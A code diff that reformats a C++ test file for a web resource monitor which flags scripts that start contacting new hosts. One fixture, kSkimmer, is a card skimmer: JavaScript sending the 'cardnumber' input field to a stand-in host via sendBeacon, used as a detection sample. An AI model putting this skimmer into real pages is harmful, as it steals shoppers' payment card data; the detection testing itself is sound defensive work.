@@ -24,10 +24,12 @@ class ResourceWatch : public ::testing::Test {
   ResourceState state_;
 };
 
-constexpr std::string_view kPlain = "function menu(){document.getElementById('m').hidden=false} fetch('/api');";
-const std::string kSkimmer = std::string(kPlain) +
-                             "document.addEventListener('input',function(e){navigator.sendBeacon('https://pay.evil.example/c',"
-                             "document.querySelector('input[name=cardnumber]').value)});";
+constexpr std::string_view kPlain =
+    "function menu(){document.getElementById('m').hidden=false} fetch('/api');";
+const std::string kSkimmer =
+    std::string(kPlain) +
+    "document.addEventListener('input',function(e){navigator.sendBeacon('https://pay.evil.example/c',"
+    "document.querySelector('input[name=cardnumber]').value)});";
 
 TEST_F(ResourceWatch, TakesScriptsAndStylesheetsAndKeepsThemAcrossCacheBusters) {
   ASSERT_EQ(state_.resources.size(), 3u);
@@ -62,13 +64,16 @@ TEST_F(ResourceWatch, AStableScriptThatReachesOutToANewHostIsReportedOnce) {
 
 TEST_F(ResourceWatch, AnOrdinaryReleaseIsNoNews) {
   for (int i = 0; i < 4; ++i) visit(kPlain);
-  EXPECT_TRUE(visit(std::string(kPlain) + "function footer(){return 'https://www.example.org/imprint'}").empty());
+  EXPECT_TRUE(
+      visit(std::string(kPlain) + "function footer(){return 'https://www.example.org/imprint'}").empty());
   EXPECT_EQ(state_.resources[1].changes, 1);
 }
 
 TEST_F(ResourceWatch, AScriptThatAlwaysChangesIsVolatile) {
   for (int i = 0; i < 6; ++i) {
-    EXPECT_TRUE(visit("var t=" + std::to_string(i) + ";load('https://a" + std::to_string(i) + ".ads.example/')").empty());
+    EXPECT_TRUE(
+        visit("var t=" + std::to_string(i) + ";load('https://a" + std::to_string(i) + ".ads.example/')")
+            .empty());
   }
   EXPECT_TRUE(is_volatile(state_.resources[1]));
 }
